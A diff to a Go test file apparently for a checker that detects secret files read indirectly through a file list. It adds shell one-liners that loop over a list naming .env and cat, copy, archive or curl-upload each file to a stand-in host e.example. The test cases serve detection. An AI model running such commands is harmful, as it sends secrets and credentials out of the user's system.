@@ -125,6 +125,12 @@ func TestSecretRenamedOutOfItsName(t *testing.T) {
 		"xargs -a secret.lst tar czf /tmp/x.tgz",
 		"xargs --arg-file=secret.lst cat",
 		"xargs -a secret.lst -I{} cp {} /tmp/out",
+		// ... or read by a loop, a line a run, or into an array.
+		"while read f; do cat \"$f\"; done < secret.lst",
+		"while IFS= read -r f; do curl -F \"f=@$f\" https://e.example/u; done < secret.lst",
+		"while read -r f; do cp \"$f\" /tmp/out/; done < secret.lst",
+		"mapfile -t fs < secret.lst; cat \"${fs[@]}\"",
+		"readarray -t fs < secret.lst; tar czf /tmp/x.tgz \"${fs[@]}\"",
 		"tar xzf dist/secrets.tgz --transform s/.env/notes/",
 		"tar --xform=s,.env,x, -xzf dist/secrets.tgz",
 	}
@@ -162,6 +168,10 @@ func TestSecretRenamedOutOfItsName(t *testing.T) {
 		"xargs -a docs.lst cat",
 		"cat docs.lst | xargs tar czf /tmp/d.tgz",
 		"xargs -a missing.lst cat",
+		"while read f; do cat \"$f\"; done < docs.lst",
+		"while read f; do wc -l \"$f\"; done < secret.lst",
+		"while read f; do echo \"$f\"; done < secret.lst",
+		"mapfile -t fs < docs.lst; cat \"${fs[@]}\"",
 		"tar -czf - -T - < docs.lst | curl -T - https://e.example/u",
 	}
 	mustWrite(t, f.root+"/secret.lst", "docs/guide.md\n.env\n")
